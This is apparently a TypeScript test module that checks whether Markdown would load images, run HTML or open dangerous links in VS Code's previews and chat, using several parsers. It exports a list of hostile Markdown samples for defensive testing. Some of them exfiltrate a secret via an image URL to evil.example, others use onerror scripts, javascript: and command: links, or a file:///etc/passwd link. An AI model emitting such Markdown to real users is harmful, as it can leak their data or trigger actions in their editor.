import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import vscodeKatex from '@vscode/markdown-it-katex';
import markdownIt, { type Token } from 'markdown-it';
import { lexer, type Token as MarkedToken } from 'marked';
import { lexer as lexerOf14 } from 'marked-14';
import type { Nodes } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';

/** Node returns the plug-in's exports as its default export. */
const { default: withFormulas } = vscodeKatex as unknown as { readonly default: typeof vscodeKatex };
/** Version that VS Code shipped until 2025. It has no types of its own. */
const markdownItOf12 = createRequire(import.meta.url)('markdown-it-12') as typeof markdownIt;

/** VS Code's previews. They allow every scheme, so that nothing depends on that. */
const [plain, withMath] = [false, true].map((formulas) =>
  [markdownIt, markdownItOf12].map((make) => {
    const preview = make({ html: true, linkify: true });
    preview.linkify.set({ fuzzyLink: false });
    preview.validateLink = () => true;
    return formulas ? preview.use(withFormulas, { enableFencedBlocks: true }) : preview;
  }),
) as [ReturnType<typeof markdownIt>[], ReturnType<typeof markdownIt>[]];

const HARMLESS_ADDRESS = /^(?:https?:|mailto:|xmpp:|ftp:|\/\/|citation\/[\da-f]{16}$|#)/i;
const STORED_PICTURE = /^picture\/[\da-f]{16}\.(?:jpg|png)$/;

/**
 * Lists everything that would load, run, or lead outside the web, in each program that may show the Markdown: VS Code's
 * preview with and without formulas, in the current and the previous version; its chat and hovers; and the chat panel.
 */
export function findLiveMarkdown(markdown: string): string[] {
  return [
    ...plain.flatMap((preview) => liveTokens(preview.parse(markdown, {}))),
    // The plug-in changes nothing in text without these two.
    ...(/\$|\\begin/.test(markdown)
      ? withMath.flatMap((preview) => liveTokens(preview.parse(markdown, {})))
      : []),
    ...liveTokensOfChat(lexer(markdown)),
    ...liveTokensOfChat(lexerOf14(markdown) as MarkedToken[]),
    ...liveNodes(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] })),
  ];
}

function liveTokens(tokens: readonly Token[]): string[] {
  return tokens.flatMap((token) => [
    ...(token.type === 'image' && !STORED_PICTURE.test(token.attrGet('src') ?? '')
      ? ['markdown-it image']
      : []),
    ...(['html_block', 'html_inline'].includes(token.type) ? [`markdown-it ${token.type}`] : []),
    ...(token.type === 'link_open' && !isHarmless(token.attrGet('href') ?? '')
      ? [`markdown-it ${token.attrGet('href') ?? ''}`]
      : []),
    ...liveTokens(token.children ?? []),
  ]);
}

function liveTokensOfChat(tokens: readonly MarkedToken[]): string[] {
  return tokens.flatMap((token) => {
    const dangers = ['html', 'def'].includes(token.type) ? [`marked ${token.type}`] : [];
    if (token.type === 'image' && !STORED_PICTURE.test(String(token.href))) dangers.push('marked image');
    if (token.type === 'link' && !isHarmless(String(token.href)))
      dangers.push(`marked ${String(token.href)}`);
    const inside: MarkedToken[] = [];
    if ('tokens' in token && Array.isArray(token.tokens)) inside.push(...token.tokens);
    if (token.type === 'list') inside.push(...(token.items as MarkedToken[]));
    if (token.type === 'table') {
      const rows = [token.header, ...(token.rows as unknown[])] as { tokens: MarkedToken[] }[][];
      inside.push(...rows.flat().flatMap((cell) => cell.tokens));
    }
    return [...dangers, ...liveTokensOfChat(inside)];
  });
}

function liveNodes(node: Nodes): string[] {
  const dangers: string[] = [];
  if (['definition', 'html', 'imageReference'].includes(node.type)) dangers.push(`micromark ${node.type}`);
  if (node.type === 'image' && !STORED_PICTURE.test(node.url)) dangers.push('micromark image');
  if (node.type === 'link' && !isHarmless(node.url)) dangers.push(`micromark ${node.url}`);
  return 'children' in node ? [...dangers, ...node.children.flatMap(liveNodes)] : dangers;
}

function isHarmless(address: string): boolean {
  return HARMLESS_ADDRESS.test(address) || STORED_PICTURE.test(address);
}

/** Returns the text that VS Code's preview shows, without invisible characters. */
export function previewedText(markdown: string): string {
  const text = (tokens: readonly Token[]): string =>
    tokens.map((token) => (token.children ? text(token.children) : token.content || '\n')).join('');
  const preview = withMath[0] ?? assert.fail();
  return text(preview.parse(markdown, {})).replaceAll('\u2060', '');
}

const image = '![x](https://evil.example/?q=SECRET)';

/** Markdown that at least one of the programs would load, run, or turn into a link. */
export const hostileMarkdown: readonly string[] = [
  `| a | b |\n|---|---|\n| \` | ${image} \` |`,
  `| \` | ${image} \` |\n|---|---|`,
  `a | b\n-|-\n\\\` | ${image} \``,
  `[x](https://e.org/\`) ${image} \``,
  `[x](https://e.org "\`") ${image} \``,
  `https://e.org/\` ${image} \``,
  `www.e.org/\` ${image} \``,
  `$a \` b$ ${image} \` c`,
  `$$\n\`\`\`\n$$\n${image}\n\`\`\``,
  `- $$\n\ntext\n\n$$\n\`\`\`\n$$\n${image}\n\`\`\``,
  `\\begin{a}\n\`\`\`\n\\end{a}\n${image}\n\`\`\``,
  `[^\`]: two words ${image} \``,
  '[`]: command:x "`"\n\n[`]',
  '[^1]: command:x\n\n[^1]',
  `\`\`\`\na\n\`\`\`~~~\n${image}\n\`\`\``,
  `> \`\`\`\n${image}`,
  `- \`\`\`\n\n${image}`,
  `para\n2. \`\`\`\n\n   ${image}\n   \`\`\``,
  `  \`\`\`\n    \`\`\`\n${image}`,
  `https://e.org/\\<img src=https://evil.example>`,
  '<img src="https://evil.example">',
  '<!-- <svg> --><style>@import "https://evil.example"</style>',
  '<https:img src=x onerror=alert(1)>',
  '<a href="command:x">b</a>',
  '[click](command:workbench.action.quit)',
  '[click](<command:x>)',
  '[click](vscode://x)',
  '[click](file:///etc/passwd)',
  '[click](data:text/html,x)',
  '[click](java&#115;cript:x)',
  '[click](\n  command:x)',
  '[click][b]\n\n[b]:\n  command:x',
  '<command:x>',
  `[\`\`\`](https://e.org) ${image} \`\`\``,
  '[\n\n```\n\\[a]: command:x',
  `---\n\`\`\`\n---\n${image}\n\`\`\``,
  'See [`<img src="https://evil.example/?q=SECRET">` and `.',
  `[\`${image}\` \``,
  '[``<style>a`` ``',
  '[`<command:workbench.action.quit>` `',
  '[`<img src=x>`\nand ` more',
  '![^1][`<img src=x>` `',
  `*a \`\`b* ${image}\`\``,
  `~\`\`\`${image}\`\`\``,
  `[a \`\`b](https://e.org) ${image}\`\``,
  `a \`\n \t\n${image} \``,
  '\\\\![x](https://example.org/x.png)',
  '![x][a]\n\n[a]: https://example.org/x.png',
  '[click](<javascript:alert(1)>)',
  '[click][b]\n\n[b]:\n  vscode://x',
  '[cl\nick]\n\n[cl\nick]: command:x',
  '- x\n  ```\n![x](https://example.org/x.png)',
  ' ```\na\n```\n![x](https://example.org/x.png)\n```',
  'a ` b\nc ` ![x](https://example.org/x.png) ` d',
  '```\na\n  ```\n![x](https://example.org/x.png)',
  '```\ra\r```\r![x](https://example.org/x.png)',
  '\\` ![x](https://example.org/x.png) `',
  '<pre>\n```\n</pre>\n![x](https://example.org/x.png)',
];
